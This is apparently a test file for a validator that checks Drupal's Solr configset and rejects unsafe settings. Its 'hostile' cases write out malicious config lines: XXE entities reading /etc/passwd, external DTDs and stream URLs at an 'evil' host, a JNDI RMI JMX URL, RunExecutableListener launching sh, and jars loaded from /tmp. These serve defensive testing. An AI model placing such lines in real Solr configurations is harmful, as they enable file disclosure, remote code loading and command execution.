/** bootdev/solr/: what Drupal's modules write is taken; what would run, fetch or read elsewhere is refused, with its line. */
import { describe, expect, test } from 'vitest';
import { makeBundle } from '../../../src/bundle/bundle.ts';
import { checkOwnConfig, type OwnConfig } from '../../../src/bundle/own-config/own-config.ts';
import { withOwnPlaces } from '../../../src/bundle/own-config/places.ts';
import { readFolder } from '../../../src/io/folder.ts';
import { completeSettings } from '../../../src/settings/schema.ts';
import { configset } from './configset.ts';

const docker = await readFolder('docker');
const settings = completeSettings();
const own = (files: Record<string, string>): OwnConfig => ({
  files: new Map(Object.entries(files).sort()),
  problems: [],
});
const check = (change: Record<string, string | undefined>) => {
  const files = Object.entries({ ...configset, ...change }).filter(
    (entry): entry is [string, string] => entry[1] !== undefined,
  );
  return checkOwnConfig(own(Object.fromEntries(files)), { settings, docker }).map(
    ({ path, line, text }) => `${path}:${line} ${text}`,
  );
};

const config = 'solr/solrconfig.xml';
const schema = 'solr/schema.xml';
/** The line of a file of the honest configset is replaced, or lines are put after it. */
const changed = (path: string, from: string, to: string) => {
  const text = configset[path] ?? '';
  if (!text.includes(from)) throw new Error(`${path} has no ${from}`);
  return { [path]: text.replace(from, () => to) };
};
const lineOf = (path: string, words: string, change: Record<string, string>) =>
  (change[path] ?? '').slice(0, (change[path] ?? '').indexOf(words)).split('\n').length;

describe('honest', () => {
  test('a configset as Drupal generates it', () => expect(check({})).toEqual([]));

  test.each([
    [
      'managed-schema',
      '<schemaFactory class="ManagedIndexSchemaFactory"><bool name="mutable">false</bool></schemaFactory>',
    ],
    ['managed-schema.xml', ''],
  ])('its schema as %s', (name, factory) => {
    const change = changed(config, '<schemaFactory class="ClassicIndexSchemaFactory"/>', factory);
    expect(check({ ...change, [schema]: undefined, [`solr/${name}`]: configset[schema] })).toEqual([]);
  });

  test('lists in lang/, a dictionary, the short form of filters', () => {
    const change = changed(
      schema,
      '<!-- more types -->',
      '<fieldType name="x" class="solr.TextField"><analyzer><tokenizer name="icu"/><filter name="stop" words="lang/stop_x.txt"/>\n' +
        '<filter class="solr.HunspellStemFilterFactory" dictionary="x.dic" affix="x.aff"/>' +
        '<filter class="solr.MorfologikFilterFactory" dictionary="ua/net/nlp/ukrainian.dict"/></analyzer></fieldType>',
    );
    expect(check({ ...change, 'solr/lang/stop_x.txt': 'x', 'solr/x.dic': '1\nx', 'solr/x.aff': '' })).toEqual([]);
  });

  test("ours, which has entities of its own, is none of a site's", () => {
    const ours = [...docker].flatMap(([path, bytes]): [string, string][] =>
      path.startsWith('roles/solr/root/etc/solr/site/conf/')
        ? [[`solr/${path.split('/').at(-1)}`, bytes.toString()]]
        : [],
    );
    expect(ours).toHaveLength(6);
    const problems = checkOwnConfig(own(Object.fromEntries(ours)), { settings, docker });
    expect(problems.map(({ path, line }) => `${path}:${line}`)).toEqual(['solr/solrconfig.xml:6']);
  });
});

describe('hostile: solrconfig.xml', () => {
  const after = '<!-- more -->';
  test.each([
    ['<lib dir="/tmp" regex=".*\\.jar"/>', /only the jars of the machine/],
    ['<lib path="../lib/evil.jar"/>', /only the jars of the machine/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Solr's own
    ['<lib dir="${solr.install.dir:../../../..}/../tmp/" regex=".*"/>', /only the jars of the machine/],
    ['<dataDir>/etc</dataDir>', /dataDir: \/etc is not beside the index/],
    ['<dataDir>../../other</dataDir>', /not beside the index/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Solr's own
    ['<dataDir>${user.home}</dataDir>', /\$\{user\.home\} has no value/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Solr's own
    ['<luceneMatchVersion>${solr.a:${java.version}}</luceneMatchVersion>', /java\.version\} has no value/],
    ['<jmx serviceUrl="service:jmx:rmi:///jndi/rmi://evil/x"/>', /<jmx> in <config>/],
    [
      '<requestDispatcher><requestParsers enableRemoteStreaming="true"/></requestDispatcher>',
      /enableRemoteStreaming: a request/,
    ],
    [
      '<requestDispatcher>\n<requestParsers enableStreamBody="TRUE"/></requestDispatcher>',
      /:\d+ enableStreamBody: a request/,
    ],
    [
      '<queryResponseWriter name="v" class="solr.VelocityResponseWriter"/>',
      /VelocityResponseWriter: it runs a program/,
    ],
    ['<queryResponseWriter name="x" class="solr.XSLTResponseWriter"/>', /XSLTResponseWriter: it runs a program/],
    ['<queryResponseWriter name="x" class="org.evil.Writer"/>', /only classes of Solr and Lucene/],
    ['<queryResponseWriter name="x" class="evil:org.evil.Writer"/>', /only classes of Solr and Lucene/],
    ['<queryResponseWriter name="x" class="solr.RawResponseWriter"/>', /not among the classes/],
    ['<requestHandler name="/s" class="solr.StreamHandler"/>', /StreamHandler: it reads or changes more/],
    ['<requestHandler name="/s" class="org.apache.solr.handler.SQLHandler"/>', /SQLHandler: it reads or changes more/],
    [
      '<requestHandler name="/d" class="org.apache.solr.handler.dataimport.DataImportHandler"/>',
      /it fetches from elsewhere/,
    ],
    ['<requestHandler name="/r" class="solr.ReplicationHandler"/>', /copies of the index/],
    ['<requestHandler name="/f" class="solr.ShowFileRequestHandler"/>', /reads or changes more/],
    ['<requestHandler name="/e" class="solr.extraction.ExtractingRequestHandler"/>', /Tika is not in the machine/],
    ['<requestHandler name="/e" class="solr.SearchHandler" runtimeLib="true"/>', /runtimeLib="…" of <requestHandler>/],
    [
      '<requestHandler name="/q" class="solr.SearchHandler"><lst name="defaults"><str name="shards">evil:80/solr</str></lst></requestHandler>',
      /shards: it is not among/,
    ],
    [
      '<requestHandler name="/q" class="solr.SearchHandler"><lst name="invariants">\n<str name="qt">/config</str></lst></requestHandler>',
      /qt: it is not among/,
    ],
    [
      '<requestHandler name="/q" class="solr.SearchHandler"><shardHandlerFactory class="HttpShardHandlerFactory"/></requestHandler>',
      /<shardHandlerFactory> in/,
    ],
    [
      '<initParams path="/**"><lst name="defaults"><str name="stream.url">http://evil/</str></lst></initParams>',
      /stream\.url: it is not among/,
    ],
    [
      '<updateRequestProcessorChain name="s"><processor class="solr.StatelessScriptUpdateProcessorFactory"><str name="script">x.js</str></processor></updateRequestProcessorChain>',
      /it runs a program/,
    ],
    [
      '<updateRequestProcessorChain name="s">\n<processor class="solr.scripting.update.ScriptUpdateProcessorFactory"/></updateRequestProcessorChain>',
      /it runs a program/,
    ],
    [
      '<updateRequestProcessorChain name="a"><processor class="solr.AddSchemaFieldsUpdateProcessorFactory"/></updateRequestProcessorChain>',
      /written over the network/,
    ],
    [
      '<query><listener event="newSearcher" class="solr.QuerySenderListener"><arr name="queries"><lst><str name="qt">/replication</str></lst></arr></listener></query>',
      /qt: it is not among/,
    ],
    [
      '<updateHandler class="solr.DirectUpdateHandler2"><listener event="postCommit" class="solr.RunExecutableListener"><str name="exe">sh</str></listener></updateHandler>',
      /starts a program/,
    ],
    [
      '<updateHandler class="solr.DirectUpdateHandler2"><updateLog><str name="dir">/tmp/log</str></updateLog></updateHandler>',
      /dir: \/tmp\/log must be/,
    ],
    [
      '<searchComponent name="x" class="solr.SuggestComponent"><lst name="suggester"><str name="indexPath">../../x</str></lst></searchComponent>',
      /indexPath: .* must be/,
    ],
    [
      '<searchComponent name="x" class="solr.SuggestComponent"><lst name="suggester"><str name="lookupImpl">org.evil.Lookup</str></lst></searchComponent>',
      /only classes of Solr/,
    ],
    [
      '<searchComponent name="x" class="solr.QueryElevationComponent"><str name="config-file">/etc/passwd</str></searchComponent>',
      /config-file: .* must be/,
    ],
    ['<directoryFactory name="D" class="solr.RAMDirectoryFactory"/>', /gone with a restart/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Solr's own
    ['<directoryFactory name="D" class="${solr.d:org.evil.Factory}"/>', /only classes of Solr/],
    ['<xi:include href="/etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>', /no name has a ":"/],
    ['<include href="x"/>', /<include> in <config>/],
    ['&other;', /&other; is not declared/],
    ['<indexConfig><infoStream file="/tmp/x">true</infoStream></indexConfig>', /file="…" of <infoStream>/],
  ])('%s', (line, why) => {
    const change = changed(config, after, line);
    const problems = check(change);
    expect(problems).toContainEqual(expect.stringMatching(why));
    const own = line.includes('\n') ? 1 : 0;
    expect(problems).toContainEqual(
      expect.stringMatching(new RegExp(`^solr/solrconfig.xml:${lineOf(config, line, change) + own} `)),
    );
  });
});

describe('hostile: the rest', () => {
  test.each([
    [
      { ...changed(config, '[', '[\n  <!ENTITY x SYSTEM "file:///etc/passwd">') },
      /solrconfig\.xml:\d+ only <!ENTITY name SYSTEM/,
    ],
    [{ ...changed(config, '[', '[\n  <!ENTITY x "xxxxxxxx">') }, /only <!ENTITY name SYSTEM/],
    [{ ...changed(config, '[', '[\n  <!ENTITY % x SYSTEM "x.xml">') }, /only <!ENTITY name SYSTEM/],
    [
      { ...changed(config, '<!DOCTYPE config [', '<!DOCTYPE config SYSTEM "http://evil/x.dtd" [') },
      /a document type may only declare/,
    ],
    [{ ...changed(config, 'encoding="UTF-8"', 'encoding="UTF-16"') }, /:1 the encoding must be UTF-8/],
    [
      changed(config, '&extra;', '&extra;\n&extra;'),
      /solrconfig\.xml:\d+ &extra; is not declared, or stands a second time/,
    ],
    [{ 'solr/solrconfig_extra.xml': '<!DOCTYPE x [\n]><x/>' }, /solrconfig_extra\.xml:2 a document type stands/],
    [
      { 'solr/solrconfig_extra.xml': '\n<requestHandler name="/s" class="solr.StreamHandler"/>' },
      /solrconfig_extra\.xml:2 solr\.StreamHandler/,
    ],
    [{ 'solr/other.xml': '<!DOCTYPE x SYSTEM "http://evil/">' }, /solr\/other\.xml:1 a document type may only/],
    [
      changed(schema, '<!-- more types -->', '<fieldType name="x" class="org.evil.Field"/>'),
      /schema\.xml:\d+ org\.evil\.Field/,
    ],
    [
      changed(
        schema,
        '<!-- more types -->',
        '<fieldType name="x" class="solr.CurrencyFieldType" providerClass="solr.OpenExchangeRatesOrgProvider"/>',
      ),
      /providerClass: it would load/,
    ],
    [
      changed(
        schema,
        '<!-- more types -->',
        '<fieldType name="x" class="solr.TextField"><analyzer class="org.evil.Analyzer"/></fieldType>',
      ),
      /only Lucene's analyzers/,
    ],
    [changed(schema, 'words="stopwords_en.txt"', 'words="/etc/passwd"'), /words: \/etc\/passwd must be a file beside/],
    [changed(schema, 'words="stopwords_en.txt"', 'words="../solr.xml"'), /words: .* must be a file beside/],
    [
      changed(schema, 'words="stopwords_en.txt"', 'words="stopwords_fr.txt"'),
      /no file stopwords_fr\.txt beside the schema/,
    ],
    [
      changed(schema, 'synonyms="synonyms_en.txt"', 'synonyms="synonyms_en.txt" format="org.evil.Parser"'),
      /format: org\.evil\.Parser would be a class/,
    ],
    [
      changed(schema, 'solr.StopFilterFactory', 'solr.ManagedStopFilterFactory'),
      /ManagedStopFilterFactory: it is written over the network/,
    ],
    [
      changed(
        schema,
        '<filters/>',
        '<filter class="solr.HyphenationCompoundWordTokenFilterFactory" hyphenator="stopwords_en.txt"/>',
      ),
      /hyphenator: stopwords_en\.txt must be a file \*\.xml/,
    ],
    [
      changed(schema, '<filters/>', '<filter class="solr.PhoneticFilterFactory" encoder="org.evil.Encoder"/>'),
      /encoder: org\.evil\.Encoder would be a class/,
    ],
    [
      { 'solr/solrcore.properties': '\ndataDir=/etc\n' },
      /solrcore\.properties:2 dataDir: only names that begin with "solr\."/,
    ],
    [{ 'solr/solrcore.properties': 'solr.core.instanceDir=/etc\n' }, /:1 solr\.core\.instanceDir: only names/],
    [{ 'solr/solrcore.properties': 'solr.a=\\u002fetc\n' }, /:1 this line is not/],
    [{ 'solr/solrcore.properties': 'solr.data.dir=/etc\n' }, /solrconfig\.xml:\d+ dataDir: \/etc/],
    [{ 'solr/configoverlay.json': '{}' }, /configoverlay\.json:0 Solr writes this file/],
    [{ 'solr/update-script.js': 'x' }, /update-script\.js:0 it would be a program/],
    [{ 'solr/lib/x.jar': 'x' }, /x\.jar:0 it would be a program/],
    [{ 'solr/conf/schema.xml': '<schema/>' }, /conf\/schema\.xml:0 a configuration of Solr is/],
    [{ 'solr/stopwords_en.txt': 'and\n@SOLR_HEAP_MB@' }, /stopwords_en\.txt:2 @SOLR_HEAP_MB@ would be replaced/],
    [{ [config]: undefined }, /solr:0 solrconfig\.xml is missing/],
    [{ [schema]: undefined }, /ClassicIndexSchemaFactory reads schema\.xml, which is missing/],
    [changed(config, '<schemaFactory class="ClassicIndexSchemaFactory"/>', ''), /Solr would write schema\.xml again/],
    [changed('solr/solrconfig_extra.xml', 'name="/select"', 'name="/search"'), /there is no requestHandler "\/select"/],
  ])('%#', (change: Record<string, string | undefined>, why) => {
    expect(check(change)).toContainEqual(expect.stringMatching(why));
  });
});

describe('half-written', () => {
  test.each([
    ['<config>\n  <query>\n</config>', ':3 </config> stands where <query> of line 2 has no end.'],
    ['<config>\n  <query>', ':2 <query> has no end.'],
    ['<config>\n  <!-- <query/>', ':2 this comment has no end.'],
    ['<config>\n  <dataDir>a & b</dataDir></config>', ':2 "&" is written &amp;.'],
    ['<config a="1"\n a="2"/>', ':1 a stands twice.'],
    ['<config>\n<dataDir>&#0;</dataDir></config>', ':2 &#0; is not declared, or stands a second time.'],
    ['<config/><config/>', ':1 <config> begins after the end of <config>.'],
    ['<config/>\n</x>', ':2 </x> closes nothing.'],
    ['x<config/>', ':1 there is text outside <config>.'],
    ['', ':1 it has no element.'],
    ['<a>'.repeat(40), ':1 this is too deep.'],
    ['<config><dataDir', ':1 this is no XML: <dataDir'],
  ])('%j', (text, said) => {
    expect(check({ [config]: text }).filter((each) => each.startsWith(config))).toContain(`${config}${said}`);
  });

  test('a large one takes no time', () => {
    const started = performance.now();
    for (const piece of ['<a ', '<!--', '&x', '<a b="', ' ', '<!DOCTYPE a [', '<a>', '${solr.', '<x/>'])
      check({ [config]: piece.repeat(100_000) });
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('in the bundle', () => {
  test('it is the whole configuration of the core, and of nothing else', () => {
    const with_ = makeBundle(settings, docker, own(configset));
    const without = makeBundle(settings, docker);
    const core = [...(with_.machines.get('solr')?.tree.keys() ?? [])].filter((path) => path.includes('/site/conf/'));
    expect(core.map((path) => path.replace('etc/solr/site/conf', 'solr')).sort()).toEqual(
      Object.keys(configset).sort(),
    );
    for (const [kind, { digest }] of without.machines)
      expect([kind, with_.machines.get(kind)?.digest === digest]).toEqual([kind, kind !== 'solr']);
  });

  test.each([
    [
      'org.xml.sax.SAXParseException; systemId: solrres:/schema.xml; lineNumber: 7; columnNumber: 3; bad',
      'bootdev/solr/schema.xml:7; bad',
    ],
    [
      "org.apache.solr.common.SolrException: Unknown fieldType 'text_en' specified on field x",
      `(bootdev/solr/schema.xml:${(configset[schema] ?? '').split('\n').findIndex((line) => line.includes('"text_en"')) + 1})`,
    ],
    ['org.apache.solr.common.SolrException: Invalid strength: primary', '(bootdev/solr/schema_extra_types.xml:2)'],
    ['java.lang.ClassNotFoundException: solr.SpellCheckComponent', '(bootdev/solr/solrconfig_extra.xml:1)'],
  ])("Solr's words have the place: %s", (said, place) => {
    const tree = makeBundle(settings, docker, own(configset)).machines.get('solr')?.tree ?? new Map();
    expect(withOwnPlaces(said, tree, own(configset))).toContain(place);
  });
});
